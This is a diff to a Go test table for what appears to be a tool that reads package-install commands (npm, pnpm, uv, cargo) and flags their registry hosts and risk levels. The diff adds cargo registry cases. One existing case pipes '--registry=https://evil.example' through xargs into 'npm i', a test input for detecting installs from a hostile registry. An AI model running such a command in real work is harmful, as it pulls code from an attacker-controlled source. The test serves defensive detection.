@@ -59,6 +59,10 @@ var packageCases = []struct {
 	{"npm audit", nil},
 	{"pnpm dedupe", []string{"(package.json) registry.npmjs.org pnpm ^0"}},
 	{"uv tool upgrade ruff", []string{"ruff pypi.org uv ^0"}},
+	// cargo's --registry names a registry the config maps to its index
+	// (rev16 M2: the host was the name itself).
+	{"cargo add x --registry myreg", []string{"x <dynamic> cargo ^0"}},
+	{"cargo install --index https://idx.example/git x", []string{"x idx.example cargo ^0"}},
 	// xargs appends what it reads: any option, any package (rev16 H1).
 	{"echo --registry=https://evil.example | xargs npm i x", []string{"x <dynamic> npm ^2", "<dynamic> <dynamic> npm ^2"}},
 	{"xargs -I{} npm i {}", []string{"<dynamic> <dynamic> npm ^1"}},
